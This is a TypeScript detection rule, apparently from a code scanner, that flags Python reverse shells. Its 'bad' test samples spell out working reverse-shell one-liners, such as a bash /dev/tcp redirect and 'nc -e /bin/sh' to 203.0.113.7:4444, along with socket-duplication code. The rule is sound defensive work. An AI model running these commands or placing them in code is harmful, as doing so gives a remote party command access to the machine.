import { any, anyArgument, argument, call, from, matches, says } from "../match.ts";
import { defineRule } from "../rule.ts";
import { REVERSE_SHELL, SHELL_PROGRAM } from "../vocabulary/commands.ts";
import { COMMANDS } from "../vocabulary/execution-calls.ts";
import { socketDescriptor } from "../vocabulary/sources.ts";

export default defineRule({
  id: "reverse-shell",
  category: "suspicious_network",
  severity: "critical",
  confidence: "high",
  languages: ["python"],
  title: "a shell is tied to a network connection",
  why: "Whoever is at the other end types commands on this machine.",
  fix: "Remove it; no skill needs this.",
  references: ["ATT&CK T1059", "ATT&CK T1071"],
  match: [
    call({ of: COMMANDS, where: argument([0, "args", "cmd", "command"], says(REVERSE_SHELL)) }),
    call({ of: ["os.dup2"], where: anyArgument(from(socketDescriptor)) }),
    call({
      of: COMMANDS,
      where: any(...["stdin", "stdout", "stderr"].map((stream) => argument(stream, from(socketDescriptor)))),
    }),
    call({ of: ["pty.spawn"], where: argument(0, matches(SHELL_PROGRAM)) }),
  ],
  bad: [
    'import os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")',
    "import socket, os\ns = socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(), 0)",
    'import pty\npty.spawn("/bin/bash")',
    'import subprocess, socket\ns = socket.create_connection(a)\nsubprocess.Popen(["/bin/sh"], stdin=s.fileno())',
    'import subprocess\nsubprocess.run(["nc", "-e", "/bin/sh", "203.0.113.7", "4444"])',
  ],
  good: [
    "import os\nos.dup2(log.fileno(), 1)",
    'import subprocess\nsubprocess.run(["bash", "-c", "ls"])',
    'import os\nos.system("ls -i")',
  ],
});
